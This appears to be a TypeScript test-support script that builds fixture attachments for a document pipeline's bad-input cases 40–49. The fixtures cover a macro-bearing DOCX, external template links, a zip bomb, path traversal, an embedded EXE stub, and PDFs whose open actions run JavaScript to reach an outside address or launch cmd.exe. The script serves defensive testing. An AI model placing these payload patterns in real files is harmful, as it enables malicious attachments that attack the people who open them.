/**
 * Writes the committed files of bad-input cases 40–49 (hostile attachments), each beside a copy of a real template
 * that names it: `npx node tests/support/make-bad-attachments.ts`. The output is deterministic; each file stays
 * well under 50 KB. The cases' expect.txt are written by hand.
 */
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ROOT } from './builds.ts';
import * as make from './hostile-files.ts';

const TEMPLATE = 'content/templates/admission-resolution.mdx';
const CORPUS = join(ROOT, 'tests/fixtures/bad-inputs');
const VBA = 'http://schemas.microsoft.com/office/2006/relationships/vbaProject';

const cases: Record<string, [file: string, build: () => Promise<Uint8Array> | Uint8Array]> = {
  '40-docx-macro': [
    'member-register.docx',
    () =>
      make.zipOf(
        make.docxParts(
          { 'word/vbaProject.bin': make.oleFile([{ name: 'VBA' }, { name: '_VBA_PROJECT', data: new Uint8Array(8) }]) },
          {
            main: make.WORD_MACRO_MAIN,
            documentRels: [{ type: VBA, target: 'vbaProject.bin' }],
            types: { '/word/vbaProject.bin': 'application/vnd.ms-office.vbaProject' },
          },
        ),
      ),
  ],
  '41-docx-external-link': [
    'member-register.docx',
    () =>
      make.zipOf(
        make.docxParts(
          {
            'word/_rels/settings.xml.rels': make.rels([
              { type: 'attachedTemplate', target: 'http://198.51.100.7/normal.dotm', mode: 'External' },
            ]),
          },
          { documentRels: [{ type: 'hyperlink', target: 'http://198.51.100.7/t.gif', mode: 'External' }] },
        ),
      ),
  ],
  // 40 MB of zeros deflate to about 40 KB: a thousandfold, judged from the central directory alone.
  '42-docx-zip-bomb': [
    'member-register.docx',
    () => make.zipOf(make.docxParts({ 'word/padding.xml': new Uint8Array(40 * 1024 * 1024) }), { level: 9 }),
  ],
  '43-docx-declared-size': [
    'member-register.docx',
    async () =>
      make.declareSize(
        await make.zipOf(make.docxParts({ 'word/padding.xml': ' '.repeat(1000) })),
        'word/padding.xml',
        3e9,
      ),
  ],
  '44-docx-nested-exe': [
    'member-register.docx',
    () =>
      make.zipOf(make.docxParts({ 'word/embeddings/setup.exe': Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1') })),
  ],
  '45-docx-path-traversal': [
    'member-register.docx',
    () => make.zipOf(make.docxParts({ '../../Startup/readme.txt': 'x' })),
  ],
  '46-pdf-javascript': [
    'member-register.pdf',
    () => make.onePagePdf('/OpenAction << /S /JavaScript /JS (app.launchURL\\("http://198.51.100.7/"\\)) >>'),
  ],
  '47-pdf-hex-escaped-name': [
    'member-register.pdf',
    () => make.onePagePdf('/OpenAction << /S /J#61vaScript /J#53 (this.print\\(\\)) >>'),
  ],
  '48-pdf-compressed-launch': [
    'member-register.pdf',
    () => make.onePagePdf('/OpenAction 6 0 R', [make.objectStream(['<< /S /Launch /F (cmd.exe) >>'], 6)]),
  ],
  '49-doc-macro-storage': [
    'member-register.doc',
    () =>
      make.renameOleEntry(
        new Uint8Array(readFileSync(join(ROOT, 'tests/fixtures/files/libreoffice-form.doc'))),
        '\u0005DocumentSummaryInformation',
        'Macros',
      ),
  ],
};

const template = readFileSync(join(ROOT, TEMPLATE), 'utf8');
for (const [name, [file, build]] of Object.entries(cases)) {
  const dir = join(CORPUS, name, 'content');
  rmSync(dir, { recursive: true, force: true });
  mkdirSync(join(dir, 'templates/attachments'), { recursive: true });
  const named = template.replace(
    'instructions:',
    `attachments:\n  - file: ${file}\n    label: 印制样表\ninstructions:`,
  );
  writeFileSync(join(CORPUS, name, TEMPLATE), named);
  const bytes = await build();
  writeFileSync(join(dir, 'templates/attachments', file), bytes);
  console.log(`${name}/content/templates/attachments/${file}: ${bytes.length} 字节`);
}
